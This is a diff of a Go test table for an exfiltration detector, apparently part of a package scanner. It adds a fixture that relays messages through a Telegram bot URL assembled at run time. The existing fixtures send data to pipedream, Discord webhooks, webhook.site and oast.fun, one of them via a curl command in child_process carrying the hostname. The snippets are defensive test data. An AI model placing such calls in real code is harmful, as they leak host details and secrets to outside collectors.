@@ -19,6 +19,8 @@ func TestExfilService(t *testing.T) {
 		{"pipedream", map[string]string{"index.js": `https.request({ hostname: "abc.m.pipedream.net", method: "POST" })`}, finding.SeverityHigh},
 		{"oast_concat", map[string]string{"index.js": `const h = "x1" + ".oast" + ".fun"; dns.lookup(h)`}, finding.SeverityHigh},
 		{"discord_webhook", map[string]string{"index.js": `fetch("https://discord.com/api/webhooks/1/abc", {method:"POST"})`}, finding.SeverityHigh},
+		// a bot token in the path of a relayed request with run-time parts
+		{"telegram_bot_relay", map[string]string{"index.js": "const k = [\"tg.relay.example.invalid\", \"7001234567:AAFakeFakeFakeFakeFakeFakeFakeFake\"]; function send(t) { require(\"https\").get(`https://${k[0]}/bot${k[1]}/sendMessage?chat_id=1&text=${encodeURIComponent(t)}`) }"}, finding.SeverityHigh},
 		{"webhook_client", map[string]string{"index.js": `const { WebhookClient } = require("discord.js"); new WebhookClient("123", "tok")`}, finding.SeverityHigh},
 		{"bare_host_option", map[string]string{"index.js": `require("https").request({ hostname: "webhook.site", path: "/0c9f", method: "POST" })`}, finding.SeverityHigh},
 		{"interpolated_command", map[string]string{"index.js": "require(\"child_process\").exec(`curl -d \"${os.hostname()}\" https://abc123.oast.fun`)"}, finding.SeverityHigh},
